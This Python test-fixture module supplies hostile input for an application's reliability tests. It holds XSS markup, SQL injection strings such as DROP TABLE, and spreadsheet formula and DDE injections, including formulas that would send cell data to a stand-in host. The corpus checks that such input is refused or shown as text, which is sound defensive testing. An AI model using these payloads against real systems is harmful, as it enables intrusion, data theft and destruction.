"""The shared corpus of awkward and hostile input, for the reliability tests.

Every list here is plain data: the tests decide what each value must do (be refused with a
message naming the field, or be accepted and stored exactly). ``expected_stored(text)`` is
what the models keep of a valid text: NFC-normalised, with spaces taken off both ends.

- ``SCRIPTS``: text in many writing systems, right-to-left text, emoji and astral
  characters: valid, must be stored and shown exactly.
- ``HTML_PAYLOADS``: markup that would run script or inject an element if a page ever
  treated it as HTML. Each either calls ``alert``/``confirm``/``prompt`` or would create an
  element with ``id="pwned"``; reports must show every one as plain text.
- ``SQL_PAYLOADS``: text that would break a query built by string concatenation.
- ``FORMULA_PAYLOADS``: cells a spreadsheet would run as formulas or DDE commands.
- ``CONTROL_TEXTS``: invisible control characters: refused, naming the field.
- ``BLANK_TEXTS``: text that looks empty: a required field says it is empty.
"""

from __future__ import annotations

import unicodedata

#: Writing systems and other valid unicode, each NFC and without spaces at the ends.
SCRIPTS: dict[str, str] = {
    "latin_accents": "Zoë, Ångström, façade, naïve, São Paulo, Łódź, Dvořák, Øresund",
    "welsh": "Mae’r grŵp yn cwrdd bob dydd Mawrth; ŷd a ŵy",
    "irish": "Tá muid ag foghlaim le chéile",
    "greek": "Καλημέρα, η ομάδα μας μαθαίνει μαζί",
    "cyrillic": "Привет, мы учимся вместе",
    "armenian": "Բարեւ, մենք սովորում ենք միասին",
    "georgian": "გამარჯობა, ჩვენ ერთად ვსწავლობთ",
    "hebrew": "שלום, אנחנו לומדים ביחד",
    "arabic": "مرحبا، نحن نتعلم معا",
    "urdu": "ہم مل کر سیکھتے ہیں",
    "persian_zwnj": "می\u200cخواهم با هم یاد بگیریم",
    "devanagari": "नमस्ते, हम साथ सीखते हैं",
    "bengali": "আমরা একসাথে শিখি",
    "gurmukhi": "ਅਸੀਂ ਇਕੱਠੇ ਸਿੱਖਦੇ ਹਾਂ",
    "tamil": "நாங்கள் ஒன்றாக கற்றுக்கொள்கிறோம்",
    "sinhala": "අපි එකට ඉගෙන ගනිමු",
    "thai": "เราเรียนรู้ด้วยกัน",
    "khmer": "យើងរៀនជាមួយគ្នា",
    "tibetan": "ང་ཚོས་མཉམ་དུ་སློབ་སྦྱོང་བྱེད།",
    "ethiopic": "አብረን እንማራለን",
    "chinese": "我们一起学习，社区更好",
    "japanese": "私たちは一緒に学びます、カタカナ",
    "korean": "우리는 함께 배웁니다",
    "cherokee": "ᏣᎳᎩ ᎦᏬᏂᎯᏍᏗ",
    "syllabics": "ᐊᒻᒪᓗ ᐃᓄᒃᑐᑦ",
    "math_astral": "𝐇𝐋𝐒 𝔴𝔬𝔯𝔨𝔟𝔬𝔬𝔨 𝟙𝟚𝟛",
    "emoji": "We 💚 our lunch club 👩🏽‍🦯 👨‍👩‍👧‍👦 🏳️‍🌈 🇬🇧 🫶🏿",
    "rtl_mixed": "The panel said שלום and مرحبا, then 123 (ok)",
    "rtl_isolates": "Name: \u2067مرحبا\u2069 — isolated",
    "rtl_override": "order \u202edcba\u202c done",
    "combining_nfc": "Ç̌ é ñ ṏ",
    "quotes_and_symbols": "“It’s £5 — or €6?” ½ ⅓ ™ © ± × ÷ ≠ ≤ ∞ ‰ ‱",
    "long_word": "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch",
    "newlines": "First line\nSecond line\r\nThird line",
}

#: Markup and script that must only ever be shown as text. A report that treated any of
#: them as HTML would call alert()/confirm()/prompt() or grow an element with id "pwned".
HTML_PAYLOADS: list[str] = [
    '<script>alert("xss-1")</script>',
    "<script>document.body.insertAdjacentHTML('beforeend','<b id=pwned>1</b>')</script>",
    '<img src=x onerror="alert(2)" id=pwned>',
    '"><img src=x id=pwned onerror=alert(3)>',
    "'><svg id=pwned onload=alert(4)>",
    "<svg><script>alert(5)</script></svg>",
    '<iframe id=pwned srcdoc="<script>parent.alert(6)</script>"></iframe>',
    '<a id=pwned href="javascript:alert(7)">click me</a>',
    "<body onload=alert(8)>",
    "<details id=pwned open ontoggle=alert(9)>",
    "<math><mtext><table><mglyph><style><img id=pwned src=x onerror=alert(10)>",
    "<style>*{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(11)">',
    '<base href="javascript:alert(12)//">',
    '<object id=pwned data="javascript:alert(13)"></object>',
    "<input id=pwned autofocus onfocus=alert(14)>",
    "</td></tr></table></section></main><div id=pwned>broke out</div>",
    "<!-- <div id=pwned>",
    "--><div id=pwned>after a comment</div>",
    "<![CDATA[<script>alert(15)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(16) id=pwned>">',
    '<form id=pwned action="javascript:alert(17)"><button>go</button></form>',
    "<marquee id=pwned onstart=alert(18)>",
    '<video id=pwned><source onerror="alert(19)"></video>',
    '" onmouseover="alert(20)" data-x="',
    "<img src='x' onerror='confirm(21)' id='pwned'>",
    "<svg><animate onbegin=prompt(22) attributeName=x dur=1s>",
    "<textarea></textarea><script>alert(23)</script>",
    "<template><img src=x onerror=alert(24)></template><div id=pwned></div>",
    "<link rel=stylesheet href=javascript:alert(25)>",
    "<embed id=pwned src=javascript:alert(26)>",
    "<x contenteditable onfocus=alert(27) autofocus id=pwned>",
    "javascript:alert(document.domain)",
    "&lt;script&gt;alert(28)&lt;/script&gt; &amp; &#60;b&#62;",
    "{{ 7*7 }} {% raw %} ${alert(29)} #{30}",
    "[click](javascript:alert(31)) ![x](x\" onerror=\"alert(32))",
    "$$\\unicode{x3c}script>alert(33)$$",
    "%3Cscript%3Ealert(34)%3C/script%3E",
    "＜script＞alert(35)＜/script＞",
]

#: Text that would change a query built by pasting strings together.
SQL_PAYLOADS: list[str] = [
    "'; DROP TABLE voice; --",
    "Robert'); DROP TABLE learning;--",
    '" OR "1"="1',
    "1 OR 1=1",
    "'; UPDATE meta SET value='99' WHERE key='schema_version'; --",
    "x'); ATTACH DATABASE '/tmp/hls-pwned.db' AS pwned; CREATE TABLE pwned.t(x); --",
    "%' OR 1=1 --",
    "\\'; SELECT sqlite_version(); --",
    "0; PRAGMA writable_schema=ON; DELETE FROM sqlite_master; --",
    "' UNION SELECT value FROM meta --",
    "?", ":name", "%s", "$1",
]

#: Cells a spreadsheet would run (formula injection / DDE), and ones it would not.
FORMULA_PAYLOADS: list[str] = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "=1+1",
    "==1",
    '=DDE("cmd";"/C calc";"!A0")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''=twice quoted",
    "=IMPORTXML(CONCAT(\"http://example.invalid/?\",A1),\"//a\")",
]

#: Formula payloads the import refuses (a cell starting with "="): the rest are text.
FORMULA_REFUSED_ON_IMPORT = [p for p in FORMULA_PAYLOADS if p.startswith("=")]

#: Invisible control characters (C0 and C1, DEL, escape sequences): always refused.
CONTROL_TEXTS: list[str] = [
    "a\x00b",
    "bell\x07",
    "\x1b[31mred\x1b[0m",
    "back\x08space",
    "del\x7fete",
    "vertical\x0btab",
    "form\x0cfeed",
    "\x1b]0;title\x07",
    "csi\x9b2J",
    "c1\x80control",
]

#: Text that only looks empty: a required field says "is empty".
BLANK_TEXTS: list[str] = [
    "",
    " ",
    "   \t  ",
    "\n\r\n",
    "\u00a0",
    "\u2003\u3000",
    "\u200b",
    "\u200b\u200c\u200d\ufeff",
    "\u2060 \u180e",
]

#: Text so long no field takes it.
HUGE_TEXT = "Long story. " * 90_000  # about a megabyte

#: Every valid text in one list: (name, text).
VALID_TEXTS: list[tuple[str, str]] = (
    [(f"script:{k}", v) for k, v in SCRIPTS.items()]
    + [(f"html:{i}", v) for i, v in enumerate(HTML_PAYLOADS)]
    + [(f"sql:{i}", v) for i, v in enumerate(SQL_PAYLOADS)]
    + [(f"formula:{i}", v) for i, v in enumerate(FORMULA_PAYLOADS)]
)

#: Personal details planted in typed text: a public report must show none of them.
PERSONAL_DETAILS: dict[str, str] = {
    "email": "zebedee.quartermaine@example.org",
    "email_spelled": "zq [at] example [dot] org",
    "handle": "@zebq_real",
    "mobile": "07700 900123",
    "landline": "020 7946 0958",
    "international": "+44 161 496 0000",
    "postcode": "SW1A 1AA",
    "postcode_lower": "m1 1ae",
    "nhs_number": "943 476 5919",
    "ni_number": "QQ 12 34 56 C",
}
#: Names on record (partner contacts, storytellers, listeners): never in a public report.
NAMES_ON_RECORD: dict[str, str] = {
    "contact_full": "Zebedee Quartermaine",
    "storyteller_full": "Philippa Oyelaran-Wright",
    "listener_full": "Casimir Vandersloot",
}


def expected_stored(text: str) -> str:
    """What a model keeps of a valid text: NFC, without spaces at the ends."""
    return unicodedata.normalize("NFC", text).strip()


def fit(text: str, limit: int | None) -> str:
    """The text cut to a field's length limit (whole characters)."""
    return text if limit is None else text[:limit].strip() or "x"


# ---------------------------------------------------------------------------
# Good records whose links point at real records of a place
# ---------------------------------------------------------------------------

#: Kinds that other kinds link to, in an order that satisfies their own links.
LINK_TARGETS = ("value", "meeting_series", "meeting", "experiment", "voice", "learning",
                "decision")
#: Links of which a record holds one, not both: a note back to a storyteller is about a
#: decision or a piece of learning.
EITHER_OR = {"feedback": ("decision", "learning")}


def one_link_of_each_pair(kind: str, data: dict, keep: str | None = None) -> dict:
    """``data`` with only one of each either/or pair of links: ``keep`` if it is one of
    them, else the first that is set."""
    pair = EITHER_OR.get(kind)
    if pair:
        chosen = keep if keep in pair else next((n for n in pair if data.get(n)), None)
        for name in pair:
            if name != chosen:
                data.pop(name, None)
    return data


def add_link_targets(wb, place: str) -> dict[str, int]:
    """Save one good record of every kind that others link to; return kind -> id."""
    ids: dict[str, int] = {}
    for kind in LINK_TARGETS:
        ids[kind] = wb.add(kind, good_record(kind, ids), place=place)
    return ids


def good_record(kind: str, ids: dict[str, int]) -> dict:
    """``samples.GOOD[kind]`` with every link pointing at the records in ``ids``."""
    from hls_workbook.domain.model import model_for

    from .samples import GOOD

    data = dict(GOOD[kind])
    for meta in model_for(kind).fields_meta():
        if meta.link in ids and meta.widget == "link" and meta.name in data:
            data[meta.name] = ids[meta.link]
    return one_link_of_each_pair(kind, data)
